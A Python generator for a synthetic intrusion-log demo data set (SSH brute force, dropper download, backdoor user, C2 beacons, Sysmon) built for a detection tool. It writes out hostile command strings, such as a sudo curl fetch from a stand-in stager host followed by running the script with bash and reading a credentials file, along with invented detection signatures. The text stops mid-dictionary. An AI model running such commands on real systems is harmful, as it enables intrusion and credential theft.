#!/usr/bin/env python3
"""Generate the tocsin demo data set (the files next to this script).

Everything here is synthetic, written for tocsin: one small intrusion told across several
sources (Linux auth.log, Suricata EVE, Wazuh alerts, Sysmon on a Windows workstation, Zeek,
a Splunk and a Kibana alert webhook), with routine noise around it. Internet addresses are
RFC 5737 documentation ranges (192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24), the inside
network is 10.20.0.0/16, names are example.com / example.net / .test, people are invented.

Standard library only, seeded: running it again rewrites the files byte for byte.

    python3 data/demo/generate.py            # writes into data/demo/
    python3 data/demo/generate.py --check    # regenerates in memory, fails if a file differs
"""

import base64
import datetime as dt
import hashlib
import json
import os
import random
import re
import sys

SEED = 20261120
R = random.Random(SEED)
OUT = os.path.dirname(os.path.abspath(__file__))

# --------------------------------------------------------------------------------------------
# Time: integer microseconds since the Unix epoch, all UTC.

DAY = dt.datetime(2026, 11, 20, tzinfo=dt.timezone.utc)
DAY_US = int(DAY.timestamp()) * 1_000_000
START = DAY_US + 8 * 3600 * 1_000_000
END = DAY_US + 18 * 3600 * 1_000_000


def at(h, m, s=0.0):
    return DAY_US + int(round((h * 3600 + m * 60 + s) * 1_000_000))


def sec(x):
    return int(round(x * 1_000_000))


def utc(us):
    return dt.datetime.fromtimestamp(us // 1_000_000, dt.timezone.utc).replace(
        microsecond=us % 1_000_000)


def ts_eve(us):  # 2026-11-20T09:12:04.123456+0000
    return utc(us).strftime("%Y-%m-%dT%H:%M:%S.%f") + "+0000"


def ts_syslog(us):  # Nov 20 09:12:04 (RFC 3164: no year, day padded with a space)
    d = utc(us)
    return "%s %2d %s" % (d.strftime("%b"), d.day, d.strftime("%H:%M:%S"))


def ts_wazuh(us):  # 2026-11-20T09:12:04.123+0000
    d = utc(us)
    return d.strftime("%Y-%m-%dT%H:%M:%S.") + "%03d+0000" % (d.microsecond // 1000)


def ts_zeek(us):
    return "%d.%06d" % (us // 1_000_000, us % 1_000_000)


def ts_sysmon_system(us):  # 2026-11-20T13:41:09.123456Z
    return utc(us).strftime("%Y-%m-%dT%H:%M:%S.%fZ")


def ts_sysmon_utc(us):  # 2026-11-20 13:41:09.123
    d = utc(us)
    return d.strftime("%Y-%m-%d %H:%M:%S.") + "%03d" % (d.microsecond // 1000)


def ts_ecs(us):
    d = utc(us)
    return d.strftime("%Y-%m-%dT%H:%M:%S.") + "%03dZ" % (d.microsecond // 1000)


def jitter(lo, hi):
    return sec(R.uniform(lo, hi))


def hexid(n):
    return "".join(R.choice("0123456789abcdef") for _ in range(n))


def dumps(obj):
    return json.dumps(obj, separators=(",", ":"), ensure_ascii=False)


# --------------------------------------------------------------------------------------------
# The cast.

DOMAIN = "corp.example.com"
NETBIOS = "EXAMPLE"

BASTION = "10.20.1.10"
WEB = "10.20.2.21"
DB = "10.20.2.31"
CI = "10.20.3.15"
RESOLVER = "10.20.0.53"     # ns-01, unbound, used by the Linux servers
DC = "10.20.0.10"           # dc-01, AD DC and DNS for the Windows clients
WAZUH_MGR = "10.20.0.40"
WS_FIN_07 = "10.20.30.57"

LINUX = {"bastion-01": BASTION, "web-01": WEB, "db-01": DB}
WORKSTATIONS = {
    "ws-fin-07": WS_FIN_07,
    "ws-fin-03": "10.20.30.53",
    "ws-eng-12": "10.20.40.112",
    "ws-eng-04": "10.20.40.104",
    "ws-eng-18": "10.20.40.118",
    "ws-eng-21": "10.20.40.121",
}

ATTACKER = "203.0.113.45"
STAGER = "198.51.100.23"
C2_IP = "198.51.100.77"
C2_NAME = "cdn-update.example.net"

UIDS = {"root": 0, "deploy": 1001, "ansible": 1050, "anguyen": 1101, "bkowalski": 1102,
        "cdiaz": 1103, "jfischer": 1104, "postgres": 107, "www-data": 33, "sysupd": 1105}

# Where the admins sit.
ADMIN_WS = {"anguyen": "10.20.40.112", "bkowalski": "10.20.40.104", "cdiaz": "10.20.40.118",
            "jfischer": "10.20.40.121"}

# Benign internet services (all documentation addresses).
SITES = {
    "www.example.com": "192.0.2.80",
    "login.example.com": "192.0.2.81",
    "mail.example.com": "192.0.2.25",
    "files.example.com": "192.0.2.90",
    "api.example.net": "198.51.100.40",
    "updates.example.net": "198.51.100.10",
    "deb.example.net": "203.0.113.80",
    "security.example.net": "203.0.113.81",
    "ifconfig.example.com": "192.0.2.99",
    "status.example.test": "203.0.113.120",
}

# Placeholder payloads: these bytes only exist so the hashes in the logs agree with each other.
XSH = (b"#!/bin/sh\n# tocsin demo placeholder - not a real payload\n"
       b"# stands for: fetch /k/kworkerd, add user, add root crontab line, start implant\n")
XSH_SIZE = 2317
KWORKERD_SIZE = 1843200
UPD_DLL_SIZE = 286720


def digest(label, size):
    blob = label + str(size).encode()
    return {
        "md5": hashlib.md5(blob).hexdigest(),
        "sha1": hashlib.sha1(blob).hexdigest(),
        "sha256": hashlib.sha256(blob).hexdigest(),
    }


XSH_HASH = digest(XSH, XSH_SIZE)
KWORKERD_HASH = digest(b"tocsin demo placeholder kworkerd", KWORKERD_SIZE)
UPD_DLL_HASH = digest(b"tocsin demo placeholder upd4821.dll", UPD_DLL_SIZE)

# --------------------------------------------------------------------------------------------
# Network sessions, written to Suricata EVE and Zeek.

SESSIONS = []
ZEEK_DNS = []
PORTS = {}


def eph(host, windows=False):
    lo, hi = (49152, 65535) if windows else (32768, 60999)
    cur = PORTS.get(host)
    if cur is None:
        cur = R.randint(lo, hi - 5000)
    cur += R.randint(1, 97)
    if cur > hi:
        cur = lo + (cur - hi)
    PORTS[host] = cur
    return cur


def is_inside(ip):
    return ip.startswith("10.20.")


def uid_zeek():
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
    return "C" + "".join(R.choice(alphabet) for _ in range(17))



def session(t, src, dst, dport, proto="TCP", service="-", dur=1.0, ob=0, rb=0,
            sport=None, windows=False, state=None, history=None, app=None, alerts=(),
            suricata=None):
    """One connection. `app` is the application-layer detail, `alerts` Suricata signatures
    (keys of SIGS) with an offset in seconds into the session."""
    if sport is None:
        sport = eph(src, windows)
    if proto == "TCP":
        opk = max(3, ob // 1200 + R.randint(4, 9))
        rpk = max(2, rb // 1400 + R.randint(3, 7))
    else:
        opk, rpk = 1, (1 if rb else 0)
    if suricata is None:
        # The Suricata sensor's capture filter keeps traffic that crosses the edge, and DNS.
        suricata = (not is_inside(src) or not is_inside(dst)) or dport == 53
    s = {
        "t": t, "src": src, "sport": sport, "dst": dst, "dport": dport, "proto": proto,
        "service": service, "dur": sec(dur), "ob": ob, "rb": rb, "opk": opk, "rpk": rpk,
        "state": state or ("SF" if proto == "TCP" else "SF"),
        "history": history or ("ShADadFf" if proto == "TCP" else "Dd"),
        "app": app, "alerts": list(alerts), "suricata": suricata,
        "uid": uid_zeek(), "flow_id": R.randint(10 ** 14, 2 ** 51),
    }
    SESSIONS.append(s)
    return s


DNS_CACHE = {}


def dns_lookup(t, client, name, qtype="A", answers=None, ttl=300, server=None, cache=True,
               rcode="NOERROR", alert_sig=None):
    """A lookup from `client`; skipped while the client's cache still holds the answer."""
    key = (client, name, qtype)
    if cache and key in DNS_CACHE and DNS_CACHE[key] > t:
        return None
    if server is None:
        server = DC if client in WORKSTATIONS.values() else RESOLVER
    if answers is None:
        if name in SITES:
            answers = [SITES[name]]
        elif name == C2_NAME:
            answers = [C2_IP]
        else:
            answers = []
    if rcode == "NOERROR" and answers:
        DNS_CACHE[key] = t + sec(ttl)
    rtt = R.uniform(0.0004, 0.0019) if name.endswith(DOMAIN) else R.uniform(0.008, 0.045)
    qid = R.randint(1, 65535)
    alerts = ((alert_sig, 0.0),) if alert_sig and limited(alert_sig, client, t) else ()
    q = {"name": name, "qtype": qtype, "answers": answers if rcode == "NOERROR" else [],
         "ttl": ttl, "rcode": rcode, "id": qid, "rtt": sec(rtt)}
    s = session(t, client, server, 53, proto="UDP", service="dns", dur=rtt,
                ob=len(name) + 17, rb=(len(name) + 17 + 16 * len(q["answers"])),
                windows=client in WORKSTATIONS.values(), app={"dns": q}, alerts=alerts)
    return s


# --------------------------------------------------------------------------------------------
# Suricata signatures (invented; sids in the 9000000 range so they clash with no real rule).

def mitre_meta(tactic_id, tactic_name, tech_id, tech_name):
    return {"mitre_tactic_id": [tactic_id], "mitre_tactic_name": [tactic_name],
            "mitre_technique_id": [tech_id], "mitre_technique_name": [tech_name]}


SIGS = {
    "ssh_bf": dict(
        sid=9000101, rev=2, sig="TOCSIN DEMO SCAN Possible SSH Brute Force Inbound (many new sessions)",
        cat="Attempted Administrator Privilege Gain", sev=2, tpl="to_server",
        meta=dict(signature_severity=["Major"], attack_target=["Server"],
                  **mitre_meta("TA0006", "Credential_Access", "T1110", "Brute_Force"))),
    "curl_ip": dict(
        sid=9000201, rev=1, sig="TOCSIN DEMO POLICY curl User-Agent Outbound to Dotted Quad Host",
        cat="Potentially Bad Traffic", sev=2, tpl="to_server",
        meta=dict(signature_severity=["Informational"], attack_target=["Client_Endpoint"])),
    "sh_dl": dict(
        sid=9000202, rev=1, sig="TOCSIN DEMO HUNTING Shell Script Download from Dotted Quad Host",
        cat="Potentially Bad Traffic", sev=2, tpl="to_client",
        meta=dict(signature_severity=["Minor"], attack_target=["Client_Endpoint"],
                  **mitre_meta("TA0011", "Command_And_Control", "T1105", "Ingress_Tool_Transfer"))),
    "elf_dl": dict(
        sid=9000203, rev=1, sig="TOCSIN DEMO MALWARE ELF Executable Download from Dotted Quad Host",
        cat="A Network Trojan was detected", sev=1, tpl="to_client",
        meta=dict(signature_severity=["Major"], attack_target=["Client_Endpoint"],
                  **mitre_meta("TA0011", "Command_And_Control", "T1105", "Ingress_Tool_Transfer"))),
    "c2_dns": dict(
        sid=9000301, rev=1, sig="TOCSIN DEMO MALWARE DNS Query for C2 Domain (cdn-update.example.net)",
        cat="A Network Trojan was detected", sev=1, tpl="to_server",
        meta=dict(signature_severity=["Major"], attack_target=["Client_Endpoint"],
                  **mitre_meta("TA0011", "Command_And_Control", "T1071", "Application_Layer_Protocol"))),
    "c2_tls": dict(
        sid=9000302, rev=3, sig="TOCSIN DEMO Possible C2 beacon to cdn-update.example.net (TLS SNI, self-signed)",
        cat="A Network Trojan was detected", sev=1, tpl="to_server",
        meta=dict(signature_severity=["Critical"], attack_target=["Client_Endpoint"],
                  **mitre_meta("TA0011", "Command_And_Control", "T1071.001", "Web_Protocols"))),
    "apt_ua": dict(
        sid=9000901, rev=1, sig="TOCSIN DEMO POLICY GNU/Linux APT User-Agent Outbound likely related to package management",
        cat="Not Suspicious Traffic", sev=3, tpl="to_server",
        meta=dict(signature_severity=["Informational"])),
    "ip_lookup": dict(
        sid=9000902, rev=1, sig="TOCSIN DEMO POLICY External IP Address Lookup (ifconfig.example.com)",
        cat="Device Retrieving External IP Address Detected", sev=2, tpl="to_server",
        meta=dict(signature_severity=["Informational"],
                  **mitre_meta("TA0007", "Discovery", "T1016", "System_Network_Configuration_Discovery"))),
    "web_scan": dict(
        sid=9000903, rev=1, sig="TOCSIN DEMO SCAN Web Scanner Probing for Sensitive Files (.env, .git)",
        cat="Web Application Attack", sev=2, tpl="to_server",
        meta=dict(signature_severity=["Minor"], attack_target=["Web_Server"],
                  **mitre_meta("TA0043", "Reconnaissance", "T1595.003", "Wordlist_Scanning"))),
}

# --------------------------------------------------------------------------------------------
# auth.log (collector of the Linux servers' authpriv facility).

AUTH = []  # [us, seq, host, prog, pidkey, msg]
_seq = [0]


def auth(us, host, prog, msg, pidkey=None):
    _seq[0] += 1
    AUTH.append([us, _seq[0], host, prog, pidkey, msg])


def key(*parts):
    _seq[0] += 1
    return ("k", _seq[0]) + parts


HOST_KEYS = {}


def user_key(user):
    if user not in HOST_KEYS:
        raw = hashlib.sha256(("tocsin-demo-key-" + user).encode()).digest()
        HOST_KEYS[user] = "ED25519 SHA256:" + base64.b64encode(raw).decode().rstrip("=")
    return HOST_KEYS[user]


WAZUH_EVENTS = []  # (us, rule_id, host, full_log, extra)


def wz(us, rule, host, line, **extra):
    WAZUH_EVENTS.append((us, rule, host, line, extra))


def syslog_line(us, host, prog, msg, pid=None):
    tag = "%s[%d]" % (prog, pid) if pid is not None else prog
    return "%s %s %s: %s" % (ts_syslog(us), host, tag, msg)


def ssh_login(host, user, src, t, dur, method="publickey", sudo=(), sport=None):
    """A normal interactive SSH session, with the network session it rides on."""
    host_ip = LINUX[host]
    win_client = src in WORKSTATIONS.values()
    if sport is None:
        sport = eph(src, windows=win_client)
    tty = "pts/%d" % R.randint(0, 3)
    k = key("sshd")
    uid = UIDS[user]
    if method == "publickey":
        acc = "Accepted publickey for %s from %s port %d ssh2: %s" % (user, src, sport, user_key(user))
    else:
        acc = "Accepted password for %s from %s port %d ssh2" % (user, src, sport)
    auth(t, host, "sshd", acc, k)
    wz(t, "5715", host, ("sshd", k, acc), srcip=src, srcport=str(sport), dstuser=user)
    auth(t + sec(0.01), host, "sshd",
         "pam_unix(sshd:session): session opened for user %s(uid=%d) by (uid=0)" % (user, uid), k)
    sk = ("S", host, t)
    auth(t + sec(0.02), host, "systemd-logind", "New session {%s} of user %s." % (sk, user), "logind")
    end = t + sec(dur)
    for (off, cmd, runas) in sudo:
        st = t + sec(off)
        pad = "%8s" % user
        line = "%s : TTY=%s ; PWD=/home/%s ; USER=%s ; COMMAND=%s" % (pad, tty, user, runas, cmd)
        auth(st, host, "sudo", line)
        if runas == "root":
            wz(st, "5402", host, ("sudo", None, line), srcuser=user, dstuser=runas,
               tty=tty, pwd="/home/%s" % user, command=cmd)
        auth(st + sec(0.004), host, "sudo",
             "pam_unix(sudo:session): session opened for user %s(uid=%d) by %s(uid=%d)" % (
                 runas, UIDS[runas], user, uid))
        auth(st + jitter(0.5, 40), host, "sudo", "pam_unix(sudo:session): session closed for user %s" % runas)
    auth(end, host, "sshd", "Received disconnect from %s port %d:11: disconnected by user" % (src, sport), k)
    auth(end + sec(0.001), host, "sshd", "Disconnected from user %s %s port %d" % (user, src, sport), k)
    auth(end + sec(0.003), host, "sshd", "pam_unix(sshd:session): session closed for user %s" % user, k)
    auth(end + sec(0.005), host, "systemd-logind",
         "Session {%s} logged out. Waiting for processes to exit." % (sk,), "logind")
    auth(end + sec(0.02), host, "systemd-logind", "Removed session {%s}." % (sk,), "logind")
    session(t - sec(0.35), src, host_ip, 22, service="ssh", dur=dur + 0.4, sport=sport,
            ob=R.randint(6000, 90000), rb=R.randint(9000, 400000),
            windows=win_client,
            app={"ssh": {"client": "OpenSSH_for_Windows_9.5" if win_client
                         else "OpenSSH_9.2p1 Debian-2+deb12u3"}})
    return sport


# --------------------------------------------------------------------------------------------
# 1. SSH brute force against bastion-01, ending in a password login as `deploy`.

BF_START = at(9, 12, 4.318)
BF_STATS = {"failed_passwords": 0, "invalid_user_lines": 0, "connections": 0, "by_user": {}}
SSH_BF_SESSIONS = []


def brute_force():
    users = ["root", "admin", "oracle", "test", "deploy"]
    t = BF_START
    conn_no = 0
    success_done = False
    sport = R.randint(38000, 39000)
    while not success_done:
        user = users[conn_no % len(users)]
        conn_no += 1
        sport += R.randint(2, 40)
        k = key("sshd")
        valid = user in UIDS
        tries = 3 if R.random() < 0.8 else 2
        last = t >= at(9, 21, 30) and user == "deploy"
        c0 = t
        t += jitter(0.2, 0.6)
        if not valid:
            line = "Invalid user %s from %s port %d" % (user, ATTACKER, sport)
            auth(t, "bastion-01", "sshd", line, k)
            wz(t, "5710", "bastion-01", ("sshd", k, line), srcip=ATTACKER, srcport=str(sport), srcuser=user)
            BF_STATS["invalid_user_lines"] += 1
            t += jitter(0.05, 0.2)
            auth(t, "bastion-01", "sshd", "pam_unix(sshd:auth): check pass; user unknown", k)
            auth(t, "bastion-01", "sshd",
                 "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=%s" % ATTACKER, k)
        else:
            t += jitter(0.05, 0.2)
            auth(t, "bastion-01", "sshd",
                 "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=%s  user=%s" % (ATTACKER, user), k)
        fails = tries - 1 if last else tries
        for i in range(fails):
            t += jitter(1.9, 2.6)
            if valid:
                line = "Failed password for %s from %s port %d ssh2" % (user, ATTACKER, sport)
                auth(t, "bastion-01", "sshd", line, k)
                wz(t, "5760", "bastion-01", ("sshd", k, line), srcip=ATTACKER, srcport=str(sport), dstuser=user)
            else:
                line = "Failed password for invalid user %s from %s port %d ssh2" % (user, ATTACKER, sport)
                auth(t, "bastion-01", "sshd", line, k)
                wz(t, "5710", "bastion-01", ("sshd", k, line), srcip=ATTACKER, srcport=str(sport), srcuser=user)
            BF_STATS["failed_passwords"] += 1
            BF_STATS["by_user"][user] = BF_STATS["by_user"].get(user, 0) + 1
        BF_STATS["connections"] += 1
        if last:
            t += jitter(0.4, 0.9)
            return k, sport, c0, t
        t += jitter(0.1, 0.5)
        if R.random() < 0.7:
            auth(t, "bastion-01", "sshd", "Received disconnect from %s port %d:11: Bye Bye [preauth]" % (ATTACKER, sport), k)
            who = "authenticating user %s" % user if valid else "invalid user %s" % user
            auth(t, "bastion-01", "sshd", "Disconnected from %s %s port %d [preauth]" % (who, ATTACKER, sport), k)
        else:
            who = "authenticating user %s" % user if valid else "invalid user %s" % user
            auth(t, "bastion-01", "sshd", "Connection closed by %s %s port %d [preauth]" % (who, ATTACKER, sport), k)
        if fails > 1:
            extra = "  user=%s" % user if valid else ""
            auth(t, "bastion-01", "sshd",
                 "PAM %d more authentication failures; logname= uid=0 euid=0 tty=ssh ruser= rhost=%s%s" % (
                     fails - 1, ATTACKER, extra), k)
        s = session(c0 - sec(0.05), ATTACKER, BASTION, 22, service="ssh", dur=(t - c0) / 1e6 + 0.05,
                    sport=sport, ob=R.randint(1800, 2600), rb=R.randint(2600, 3400),
                    history="ShAdDaFf", app={"ssh": {"client": "libssh_0.10.6"}},
                    alerts=(("ssh_bf", 0.004),) if limited("ssh_bf", ATTACKER, c0) else ())
        SSH_BF_SESSIONS.append(s)
        t += jitter(2.0, 6.5)


# --------------------------------------------------------------------------------------------
# Network behaviour helpers.

TLS_C2 = {
    "subject": "CN=" + C2_NAME, "issuerdn": "CN=" + C2_NAME,
    "serial": "4A:1F:0C:93:7E:22:B5:60:D1:08",
    "fingerprint": "3e:91:0a:7c:55:d2:18:b4:c9:6f:20:e3:8a:41:d7:0b:9c:f2:65:13",
    "sni": C2_NAME, "version": "TLS 1.2",
    "notbefore": "2026-11-02T00:00:00", "notafter": "2027-11-02T00:00:00",
}


# JA4 client fingerprints (Suricata 8 logs `tls.ja4`).
JA4_IMPLANT = "t12d1909h1_d83cc789557e_7af1ed941c26"   # the Linux implant
JA4_WIN = "t12d2111h2_e2e8f1a3a4b4_6d1c3f8a2b91"       # Windows schannel (PowerShell, rundll32)
JA4_BROWSER = "t13d1516h2_8daaf6152771_e5627efa2ab1"   # Edge
JA4_CI = "t13d1713h2_5b57614c22b0_3d5424432f57"        # ci-01 tooling


def tls_app(sni, ja4, c2=False):
    if c2:
        d = dict(TLS_C2)
        d["ja4"] = ja4
        return {"tls": d}
    h = hashlib.sha1(sni.encode()).hexdigest()
    return {"tls": {
        "subject": "CN=" + sni,
        "issuerdn": "C=US, O=Example Trust Services, CN=Example TLS RSA CA 2026",
        "serial": ":".join(h[i:i + 2].upper() for i in range(0, 20, 2)),
        "fingerprint": ":".join(h[i:i + 2] for i in range(0, 40, 2)),
        "sni": sni, "version": "TLS 1.3",
        "notbefore": "2026-09-14T00:00:00", "notafter": "2026-12-13T23:59:59",
        "ja4": ja4}}


def https(t, client, name, ob, rb, dur, ja4, windows=False, alerts=(), c2=False):
    dns_lookup(t, client, name, alert_sig="c2_dns" if name == C2_NAME else None,
               ttl=300 if name == C2_NAME else 3600)
    ip = SITES.get(name, C2_IP if name == C2_NAME else None)
    t2 = t + jitter(0.02, 0.08)
    return session(t2, client, ip, 443, service="ssl", dur=dur, ob=ob, rb=rb, windows=windows,
                   app=tls_app(name, ja4, c2=c2), alerts=alerts)


def http(t, client, host, ip, url, ua, status, ctype, length, method="GET", windows=False,
         alerts=(), fileinfo=None, dur=None, sport=None, dport=80):
    return session(t, client, ip, dport, service="http",
                   dur=dur if dur is not None else R.uniform(0.05, 0.6),
                   ob=len(url) + len(ua) + 120, rb=length + 280, windows=windows, sport=sport,
                   app={"http": {"hostname": host, "url": url, "http_user_agent": ua,
                                 "http_content_type": ctype, "http_method": method,
                                 "protocol": "HTTP/1.1", "status": status, "length": length},
                        "fileinfo": fileinfo},
                   alerts=alerts)


# Suricata `threshold: type limit, track by_src` for the C2 signatures.
LIMIT = {"c2_tls": 3600, "c2_dns": 86400, "ssh_bf": 120, "apt_ua": 3600, "ip_lookup": 3600,
         "web_scan": 300}
_last_fire = {}


def limited(sig, src, t):
    k = (sig, src)
    if k in _last_fire and t - _last_fire[k] < sec(LIMIT[sig]):
        return False
    _last_fire[k] = t
    return True


def beacon(t, client, ja4, windows=False):
    dns_lookup(t, client, C2_NAME, alert_sig="c2_dns")
    t2 = t + jitter(0.02, 0.07)
    alerts = (("c2_tls", 0.03),) if limited("c2_tls", client, t2) else ()
    return session(t2, client, C2_IP, 443, service="ssl", dur=R.uniform(0.35, 1.4),
                   ob=R.randint(900, 2200), rb=R.randint(3100, 5200), windows=windows,
                   app=tls_app(C2_NAME, ja4, c2=True), alerts=alerts)


# --------------------------------------------------------------------------------------------
# The story.

STORY = {}


def story():
    # 1. Brute force, ending in `Accepted password for deploy`.
    k, sport, c0, t = brute_force()
    acc = "Accepted password for deploy from %s port %d ssh2" % (ATTACKER, sport)
    auth(t, "bastion-01", "sshd", acc, k)
    STORY["deploy_login"] = t
    wz(t, "5715", "bastion-01", ("sshd", k, acc), srcip=ATTACKER, srcport=str(sport), dstuser="deploy")
    auth(t + sec(0.012), "bastion-01", "sshd",
         "pam_unix(sshd:session): session opened for user deploy(uid=1001) by (uid=0)", k)
    sk = ("S", "bastion-01", t)
    auth(t + sec(0.03), "bastion-01", "systemd-logind", "New session {%s} of user deploy." % (sk,), "logind")
    ku = key("systemd")
    auth(t + sec(0.05), "bastion-01", "systemd",
         "pam_unix(systemd-user:session): session opened for user deploy(uid=1001) by (uid=0)", ku)

    def sudo(us, cmd, first=False):
        line = "  deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=%s" % cmd
        auth(us, "bastion-01", "sudo", line)
        rule = "5403" if first else "5402"
        wz(us, rule, "bastion-01", ("sudo", None, line), srcuser="deploy", dstuser="root",
           tty="pts/0", pwd="/home/deploy", command=cmd)
        if cmd != "list":
            auth(us + sec(0.004), "bastion-01", "sudo",
                 "pam_unix(sudo:session): session opened for user root(uid=0) by deploy(uid=1001)")
        return us

    # 2. sudo: look around, fetch the dropper, run it.
    t1 = sudo(t + sec(29.4), "list", first=True)
    t2 = sudo(t + sec(49.806), "/usr/bin/curl -fsSL http://%s/x.sh -o /tmp/.x.sh" % STAGER)
    STORY["curl"] = t2
    h = http(t2 + sec(0.041), BASTION, STAGER, STAGER, "/x.sh", "curl/7.88.1", 200,
             "text/x-sh", XSH_SIZE, dur=0.19,
             alerts=(("curl_ip", 0.002), ("sh_dl", 0.15)),
             fileinfo=dict(filename="/x.sh", magic="POSIX shell script, ASCII text executable",
                           size=XSH_SIZE, **XSH_HASH))
    auth(t2 + sec(0.31), "bastion-01", "sudo", "pam_unix(sudo:session): session closed for user root")
    wz(t2 + sec(0.27), "100210", "bastion-01", None, syscheck=dict(
        path="/tmp/.x.sh", size=XSH_SIZE, perm="rw-r--r--", uid="0", gid="0", hashes=XSH_HASH,
        mtime=t2 + sec(0.25), inode=1311842))

    t3 = sudo(t2 + sec(32.863), "/bin/bash /tmp/.x.sh")
    STORY["xsh"] = t3
    # x.sh, running as root: fetch the implant ...
    t4 = t3 + sec(1.62)
    http(t4, BASTION, STAGER, STAGER, "/k/kworkerd", "curl/7.88.1", 200,
         "application/octet-stream", KWORKERD_SIZE, dur=2.71,
         alerts=(("curl_ip", 0.002), ("elf_dl", 2.3)),
         fileinfo=dict(filename="/k/kworkerd",
                       magic="ELF 64-bit LSB executable, x86-64, version 1 (SYSV), statically linked, stripped",
                       size=KWORKERD_SIZE, **KWORKERD_HASH))
    wz(t4 + sec(2.95), "100210", "bastion-01", None, syscheck=dict(
        path="/tmp/.x/kworkerd", size=KWORKERD_SIZE, perm="rwxr-xr-x", uid="0", gid="0",
        hashes=KWORKERD_HASH, mtime=t4 + sec(2.9), inode=1311851))
    # ... add a user with sudo rights ...
    t5 = t4 + sec(3.48)
    STORY["useradd"] = t5
    ka = key("useradd")
    STORY["useradd_key"] = ka
    line = "new group: name=sysupd, GID=1105"
    auth(t5, "bastion-01", "useradd", line, ka)
    wz(t5, "5901", "bastion-01", ("useradd", ka, line))
    line = "new user: name=sysupd, UID=1105, GID=1105, home=/home/sysupd, shell=/bin/bash, from=/dev/pts/0"
    auth(t5 + sec(0.002), "bastion-01", "useradd", line, ka)
    wz(t5 + sec(0.002), "5902", "bastion-01", ("useradd", ka, line), dstuser="sysupd")
    km = key("usermod")
    auth(t5 + sec(0.061), "bastion-01", "usermod", "add 'sysupd' to group 'sudo'", km)
    auth(t5 + sec(0.061), "bastion-01", "usermod", "add 'sysupd' to shadow group 'sudo'", km)
    kc = key("chpasswd")
    auth(t5 + sec(0.102), "bastion-01", "chpasswd",
         "pam_unix(chpasswd:chauthtok): password changed for sysupd", kc)
    # ... root crontab line (crontab logs to /var/log/syslog, which Wazuh also reads) ...
    t6 = t5 + sec(0.31)
    STORY["crontab"] = t6
    wz(t6, "2833", "bastion-01", ("crontab", key("crontab"), "(root) REPLACE (root)"),
       location="/var/log/syslog")
    # ... and start the implant, which beacons every ~60 s.
    auth(t6 + sec(0.9), "bastion-01", "sudo", "pam_unix(sudo:session): session closed for user root")
    tb = t6 + sec(7.3)
    STORY["beacon_bastion"] = tb
    n = 0
    while tb < END - sec(60):
        beacon(tb, BASTION, JA4_IMPLANT)
        n += 1
        tb += sec(60 + R.uniform(-4.0, 4.0)) if n < 40 else sec(1800 * R.uniform(0.92, 1.08))
    STORY["beacons_bastion"] = n

    # 2b. Credentials in a config file, then log out.
    t7 = sudo(at(9, 31, 12.442), "/usr/bin/cat /etc/backup/credentials.conf")
    STORY["creds"] = t7
    auth(t7 + sec(0.05), "bastion-01", "sudo", "pam_unix(sudo:session): session closed for user root")
    tend = at(9, 33, 5.903)
    auth(tend, "bastion-01", "sshd", "Received disconnect from %s port %d:11: disconnected by user" % (ATTACKER, sport), k)
    auth(tend + sec(0.001), "bastion-01", "sshd", "Disconnected from user deploy %s port %d" % (ATTACKER, sport), k)
    auth(tend + sec(0.003), "bastion-01", "sshd", "pam_unix(sshd:session): session closed for user deploy", k)
    auth(tend + sec(0.005), "bastion-01", "systemd-logind",
         "Session {%s} logged out. Waiting for processes to exit." % (sk,), "logind")
    auth(tend + sec(0.02), "bastion-01", "systemd-logind", "Removed session {%s}." % (sk,), "logind")
    session(c0 - sec(0.05), ATTACKER, BASTION, 22, service="ssh", dur=(tend - c0) / 1e6,
            sport=sport, ob=48213, rb=97540, app={"ssh": {"client": "libssh_0.10.6"}})

    # 3. Back at 13:35 with the new account; WinRM to ws-fin-07 with svc_backup's password.
    t8 = at(13, 35, 20.118)
    STORY["sysupd_login"] = t8
    sp = eph(ATTACKER)
    ssh_login("bastion-01", "sysupd", ATTACKER, t8, 1471.2, method="password", sport=sp)
    # replace the client string of that session with the attacker's
    SESSIONS[-1]["app"] = {"ssh": {"client": "OpenSSH_8.9p1"}}
    tw = at(13, 41, 4.502)
    STORY["winrm"] = tw
    session(tw - sec(0.9), BASTION, DC, 88, service="krb_tcp", dur=0.02, ob=1480, rb=1620)
    session(tw, BASTION, WS_FIN_07, 5985, service="http", dur=884.3, ob=181422, rb=96310)


# --------------------------------------------------------------------------------------------
# Sysmon on ws-fin-07 (evtx-style JSON, as the evtx crate renders it).

SYSMON = []
MACHINE = "6A3F1C2E"
_guid_ctr = [0x1A40]
_rec = [48211]


def pguid(us):
    _guid_ctr[0] += R.randint(1, 9)
    s = (us // 1_000_000) & 0xFFFFFFFF
    return "%s-%04X-%04X-%04X-000000001F00" % (MACHINE, (s >> 16) & 0xFFFF, s & 0xFFFF, _guid_ctr[0])


def fake_hashes(path):
    h = hashlib.sha256(("tocsin-demo:" + path.lower()).encode()).hexdigest().upper()
    m = hashlib.md5(("tocsin-demo:" + path.lower()).encode()).hexdigest().upper()
    i = hashlib.md5(("imphash:" + path.lower()).encode()).hexdigest().upper()
    return "MD5=%s,SHA256=%s,IMPHASH=%s" % (m, h, i)


PE_INFO = {
    "powershell.exe": ("10.0.19041.5794 (WinBuild.160101.0800)", "Windows PowerShell", "PowerShell.EXE"),
    "rundll32.exe": ("10.0.19041.3636 (WinBuild.160101.0800)", "Windows host process (Rundll32)", "RUNDLL32.EXE"),
    "cmd.exe": ("10.0.19041.4355 (WinBuild.160101.0800)", "Windows Command Processor", "Cmd.Exe"),
    "whoami.exe": ("10.0.19041.1 (WinBuild.160101.0800)", "whoami - displays logged on user information", "whoami.exe"),
    "net.exe": ("10.0.19041.1 (WinBuild.160101.0800)", "Net Command", "net.exe"),
    "net1.exe": ("10.0.19041.1 (WinBuild.160101.0800)", "Net Command", "net1.exe"),
    "nltest.exe": ("10.0.19041.3636 (WinBuild.160101.0800)", "Microsoft\u00ae Logon Server Test Utility", "nltestrk.exe"),
    "ipconfig.exe": ("10.0.19041.1 (WinBuild.160101.0800)", "IP Configuration Utility", "ipconfig.exe"),
    "reg.exe": ("10.0.19041.1 (WinBuild.160101.0800)", "Registry Console Tool", "reg.exe"),
    "wsmprovhost.exe": ("10.0.19041.4522 (WinBuild.160101.0800)", "Host process for WinRM plug-ins", "wsmprovhost.exe"),
